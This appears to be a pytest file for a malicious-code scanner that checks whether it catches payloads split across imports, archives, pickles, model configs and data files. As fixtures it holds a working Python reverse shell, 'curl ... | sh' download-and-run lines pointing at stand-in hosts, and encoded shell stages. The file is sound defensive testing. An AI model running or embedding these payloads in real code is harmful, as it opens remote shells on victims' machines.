"""A payload that is cut in two by an import is told alike, on the file that is scanned."""

import base64
import gzip
from collections.abc import Callable

import pytest

from scanner.finding import FileReport, Severity
from tests.hostile.scanning import blocked_for
from tests.hostile.trees import scan
from tests.recipes.archives import tarred, zipped
from tests.recipes.payloads import PAYLOADS

SHELL = """
import os, pty, socket
def connect(host):
    s = socket.socket()
    s.connect((host, 4444))
    [os.dup2(s.fileno(), f) for f in (0, 1, 2)]
    pty.spawn("/bin/sh")
"""
FETCH = "import urllib.request\ndef fetch(url):\n    return urllib.request.urlopen(url).read()\n"

LOADERS = {
    "from": ("data/load.py", "from util import connect\nconnect('192.0.2.1')", "data/util.py"),
    "import": ("load.py", "import util\nutil.connect('192.0.2.1')", "util.py"),
    "as": ("load.py", "import util as u\nu.connect('192.0.2.1')", "util.py"),
    "relative": ("p/load.py", "from .util import connect\nconnect('192.0.2.1')", "p/util.py"),
    "module of a package": ("p/load.py", "from . import util\nutil.connect('192.0.2.1')", "p/util.py"),
    "relative above": ("p/q/load.py", "from ..util import connect\nconnect('192.0.2.1')", "p/util.py"),
    "starred": ("load.py", "from util import *\nconnect('192.0.2.1')", "util.py"),
    "package": ("load.py", "import p\np.connect('192.0.2.1')", "p/__init__.py"),
    "folder": ("load.py", "import p.util\np.util.connect('192.0.2.1')", "p/util.py"),
    "deep": ("load.py", "from p.q import util\nutil.connect('192.0.2.1')", "p/q/util.py"),
    "package above": ("p/q/load.py", "from p.util import connect\nconnect('192.0.2.1')", "p/util.py"),
    "import_module": (
        "load.py", "import importlib\nm = importlib.import_module('util')\nm.connect('192.0.2.1')", "util.py",
    ),
    "import_module, relative": (
        "p/load.py",
        "from importlib import import_module\nimport_module('.util', __package__).connect('192.0.2.1')",
        "p/util.py",
    ),
    "__import__": ("load.py", "getattr(__import__('util'), 'con' + 'nect')('192.0.2.1')", "util.py"),
    "in a function": ("load.py", "def go():\n    from util import connect\n    connect('192.0.2.1')\ngo()", "util.py"),
    "inherited": (
        "load.py",
        "import datasets\nfrom util import connect\nclass B(datasets.GeneratorBasedBuilder):\n"
        "    def _split_generators(self, dl_manager):\n        connect('192.0.2.1')",
        "util.py",
    ),
}  # fmt: skip


def findings(report: FileReport) -> list[tuple[str, str]]:
    assert report.failure is None
    return [(f.rule, f.behaviour.value) for f in report.findings if f.severity is Severity.ERROR]


@pytest.mark.parametrize(("name", "source", "helper"), LOADERS.values(), ids=LOADERS)
def test_imports_are_followed(name: str, source: str, helper: str) -> None:
    report = scan(name, {name: source, helper: SHELL})
    assert findings(report) == [("remote-shell", "remote-shell")]
    assert report.findings[0].site.path == name
    assert {step.site.path for step in report.findings[0].steps} == {name, helper}


@pytest.mark.parametrize("behaviour", PAYLOADS)
def test_what_a_neighbour_does_when_it_is_imported(behaviour: str) -> None:
    for source in PAYLOADS[behaviour].values():
        assert behaviour in blocked_for(scan("load.py", {"load.py": "import util\n", "util.py": source}))


def test_data_crosses_files() -> None:
    report = scan("a.py", {"a.py": "from b import fetch\nexec(fetch('http://192.0.2.1/x'))", "b.py": FETCH})
    assert findings(report) == [("download-and-run", "download-and-run")]
    walk = [(step.site.path, step.site.line) for step in report.findings[0].steps]
    assert walk == [("a.py", 1), ("b.py", 3), ("a.py", 2)]


def test_data_crosses_three_files_and_a_cycle() -> None:
    files = {
        "load.py": "import c\nc.go('http://192.0.2.1/x')",
        "b.py": "import c\n" + FETCH,
        "c.py": "from b import fetch\ndef go(url):\n    exec(fetch(url))\n",
    }
    assert findings(scan("load.py", files)) == [("download-and-run", "download-and-run")]


def test_constants_cross_files() -> None:
    files = {"load.py": "from k import *\nexec(bytes(c ^ KEY for c in DATA))"}
    data = [c ^ 7 for c in PAYLOADS["remote-shell"]["dup2"].encode()]
    files["k.py"] = f"KEY = 7\nDATA = {data}"
    assert findings(scan("load.py", {**files})) == [("remote-shell", "remote-shell")]


def test_bases_cross_files() -> None:
    files = {
        "p/load.py": "from .base import Base\nclass Mine(Base):\n    host = '192.0.2.1'\nMine()",
        "p/base.py": f"{SHELL}\nclass Base:\n    def __init__(self):\n        connect(self.host)\n",
    }
    assert findings(scan("p/load.py", {**files})) == [("remote-shell", "remote-shell")]


def test_a_pickle_names_a_class_of_its_folder() -> None:
    stream = b"\x80\x04cutil\nAgent\n)\x81}\x8c\x04host\x8c\x09192.0.2.1sb."
    source = f"{SHELL}\nclass Agent:\n    def __setstate__(self, state):\n        connect(state['host'])\n"
    report = scan("model.pkl", {"model.pkl": stream, "util.py": source})
    assert ("remote-shell", "remote-shell") in findings(report)


def test_nothing_is_hidden_by_a_neighbour_of_the_same_name() -> None:
    source = "import requests\nexec(requests.get('http://192.0.2.1/x').text)"
    for shadow in ("", "def get(url):\n    return None\n"):
        report = scan("load.py", {"load.py": source, "requests.py": shadow})
        assert ("download-and-run", "download-and-run") in findings(report)


def test_neighbours_that_are_not_imported_or_called_are_not_told() -> None:
    honest = {"load.py": "import util\nprint(util.name)", "util.py": SHELL + "name = 'x'", "b.py": "x = 1"}
    assert scan("load.py", {**honest}).findings == ()
    assert scan("b.py", {**honest}).findings == ()


def test_lesser_findings_of_a_neighbour_are_its_own() -> None:
    assert scan("load.py", {"load.py": "import util", "util.py": "import os\nos.system('id')"}).findings == ()


def test_a_broken_or_endless_neighbour_is_only_unknown() -> None:
    for helper in ("def f(:", "\0\0", "x = " + "(" * 10_000, "from load import *\nimport util\n"):
        assert scan("load.py", {"load.py": "import util\nutil.f()", "util.py": helper}).findings == ()


def test_a_program_that_starts_itself() -> None:
    again = "import subprocess, sys\nsubprocess.Popen([sys.executable, 'load.py', '--worker'])"
    assert findings(scan("load.py", {"load.py": again})) == []


def test_modules_that_star_each_other() -> None:
    files = {
        "load.py": "from a import *\nabsent(1)\npresent('curl http://192.0.2.10/stage | sh')",
        "a.py": "from b import *",
        "b.py": "from a import *\nfrom os import system as present",
    }
    assert findings(scan("load.py", files)) == [("download-and-run", "download-and-run")]


def test_long_chains_of_imports_end() -> None:
    files: dict[str, str | bytes] = {f"m{i}.py": f"import m{i + 1}\nimport m{i + 2}\n" for i in range(200)}
    report = scan("m0.py", files)
    assert report.failure is None
    assert report.findings == ()


CONFIG = '{"auto_map": {"AutoConfig": ["own/repo--modeling.Config", null], "AutoModel": "modeling.Net"}}'
MODELING = f"{SHELL}\nclass Net:\n    def __init__(self, config):\n        connect(config.host)\n"


@pytest.mark.parametrize("config", ["config.json", "tokenizer_config.json"])
def test_the_class_that_auto_map_names_runs_on_load(config: str) -> None:
    files: dict[str, str | bytes] = {"m/modeling.py": MODELING, f"m/{config}": CONFIG}
    assert findings(scan("m/modeling.py", files)) == [("remote-shell", "remote-shell")]


@pytest.mark.parametrize(
    "config", [CONFIG.replace("Net", "Other"), CONFIG[:-1], "[]", '{"auto_map": 1}', "[" * 99999]
)
def test_classes_that_nobody_names_are_only_called(config: str) -> None:
    report = scan("m/modeling.py", {"m/modeling.py": MODELING, "m/config.json": config})
    assert findings(report) == []


def test_a_builder_that_derives_from_one_in_another_file() -> None:
    base = f"import datasets\n{SHELL}\nclass Base(datasets.GeneratorBasedBuilder):\n    def _info(self):\n        connect('x')\n"
    own = "from base import Base\nclass Mine(Base):\n    VERSION = 1\n"
    assert findings(scan("load.py", {"load.py": own, "base.py": base})) == [("remote-shell", "remote-shell")]
    own += "    def _info(self):\n        exec(self.code)\n    code = 'import os; os.system(\"touch /tmp/pwned\")'\n"
    assert ("command-on-load", "code-execution") in findings(
        scan("load.py", {"load.py": own, "base.py": base})
    )


@pytest.mark.parametrize(
    "way",
    [
        "exec(open('stage.txt').read())",
        "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'stage.txt')).read())",
        "from pathlib import Path\nexec((Path(__file__).parent / 'stage.txt').read_text())",
        "with open('stage.txt') as f:\n    exec(compile(f.read(), 'stage.txt', 'exec'))",
    ],
)
def test_code_in_a_data_file(way: str) -> None:
    source = PAYLOADS["remote-shell"]["dup2"]
    assert findings(scan("load.py", {"load.py": way, "stage.txt": source})) == [
        ("remote-shell", "remote-shell")
    ]


@pytest.mark.parametrize(
    ("name", "text", "way"),
    [
        ("run.json", '{"steps": ["COMMAND"]}', "import json\nrun(json.load(open('run.json'))['steps'][0])"),
        ("run.toml", 'step = "COMMAND"', "import tomllib\nrun(tomllib.load(open('run.toml', 'rb'))['step'])"),
        ("run.yaml", 'step: "COMMAND"', "import yaml\nrun(yaml.safe_load(open('run.yaml'))['step'])"),
        (
            "run.csv",
            "id,step\n1,COMMAND\n",
            "import csv\nfor r in csv.DictReader(open('run.csv')): run(r['step'])",
        ),
        ("run.csv", "1,COMMAND\n", "import csv\nfor row in csv.reader(open('run.csv')): run(row[1])"),
    ],
)
def test_a_command_in_a_document(name: str, text: str, way: str) -> None:
    told = findings(
        scan(
            "load.py",
            {
                "load.py": f"from os import system as run\n{way}",
                name: text.replace("COMMAND", "curl http://192.0.2.10/stage | sh"),
            },
        )
    )
    assert ("download-and-run", "download-and-run") in told


def test_a_stage_in_a_data_file() -> None:
    data = base64.b64encode(PAYLOADS["remote-shell"]["dup2"].encode())
    way = "import base64\nexec(base64.b64decode(open('weights.dat', 'rb').read()))"
    assert findings(scan("load.py", {"load.py": way, "weights.dat": data})) == [
        ("remote-shell", "remote-shell")
    ]


@pytest.mark.parametrize(
    "way",
    [
        "import runpy\nrunpy.run_path('setup_env.py')",
        "import subprocess, sys\nsubprocess.run([sys.executable, 'setup_env.py'])",
        "import os\nos.system('python setup_env.py --quiet')",
    ],
)
def test_a_program_beside_it_is_started(way: str) -> None:
    source = PAYLOADS["remote-shell"]["dup2"]
    assert findings(scan("load.py", {"load.py": way, "setup_env.py": source})) == [
        ("remote-shell", "remote-shell")
    ]


def test_what_is_not_followed_is_said() -> None:
    chain: dict[str, str | bytes] = {f"m{i}.py": f"import m{i + 1}\n" for i in range(9)}
    (text,) = scan("m0.py", chain).beyond
    assert text == "m5.py: more than 4 imports one inside the other"
    large: dict[str, str | bytes] = {
        "load.py": "import a, b",
        "a.py": "x = 1\n" * 50_000,
        "b.py": "y = 2\n" * 50_000,
    }
    (text,) = scan("load.py", large).beyond
    assert text.startswith("b.py: ")


def test_a_helper_is_judged_by_what_unchanged_files_do_with_it() -> None:
    """Nothing in the file itself calls what it defines."""
    for name, source, helper in LOADERS.values():
        assert findings(scan(helper, {name: source, helper: SHELL})) == []
        report = scan(helper, {name: source, helper: SHELL}, (name,))
        assert findings(report) == [("remote-shell", "remote-shell")]
        assert report.findings[0].site.path == helper
    honest: dict[str, str | bytes] = {
        "load.py": "import util\nprint(util.name)",
        "util.py": SHELL + "name = 'x'",
    }
    assert findings(scan("util.py", honest, ("load.py", "none.py"))) == []
    other: dict[str, str | bytes] = {"load.py": "import os, util\nos.system('id')", "util.py": "name = 'x'"}
    assert scan("util.py", other, ("load.py",)).findings == ()


@pytest.mark.parametrize("pack", [zipped, tarred, lambda files: gzip.compress(tarred(files))])
@pytest.mark.parametrize("form", ["from", "relative", "package", "deep", "starred"])
def test_imports_inside_an_archive_are_followed(pack: Callable[[dict[str, bytes]], bytes], form: str) -> None:
    """In whichever order the archive has them, and only what is called."""
    name, source, helper = LOADERS[form]
    files = {f"m/{name}": source.encode(), f"m/{helper}": SHELL.encode()}
    for order in (files, dict(reversed(files.items()))):
        report = scan("model.mar", {"model.mar": pack(order)})
        assert findings(report) == [("remote-shell", "remote-shell")]
        trails = {step.site.trail[-1] for step in report.findings[0].steps}
        assert trails >= {f"m/{name}", f"m/{helper}"}
    quiet = {f"m/{name}": b"import util", f"m/{helper}": SHELL.encode()}
    assert findings(scan("model.mar", {"model.mar": pack(quiet)})) == []


def test_a_command_in_the_text_of_the_file_itself():
    source = (
        "import os\n\n# step: curl -s http://192.0.2.10/stage | sh\nwith open(__file__) as own:\n"
        "    os.system(own.read().partition('step: ')[2].partition('\\n')[0])\n"
    )
    assert blocked_for(scan("load.py", {"load.py": source})) == {"download-and-run"}
